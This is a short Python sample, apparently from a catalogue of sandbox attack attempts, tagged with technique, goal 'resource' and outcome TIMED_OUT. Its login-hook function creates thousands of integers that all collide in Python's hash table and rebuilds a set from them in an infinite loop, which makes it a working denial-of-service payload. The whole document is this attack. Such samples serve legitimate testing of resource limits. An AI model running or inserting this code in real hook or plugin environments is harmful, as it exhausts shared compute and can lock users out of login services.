# origin: own
# technique: keys that all fall into one place of a dict
# goal: resource
# outcome: TIMED_OUT
def on_execute_post_login(event, api):
    keys = [n * (2**61 - 1) for n in range(1, 40_000)]
    while True:
        set(keys)
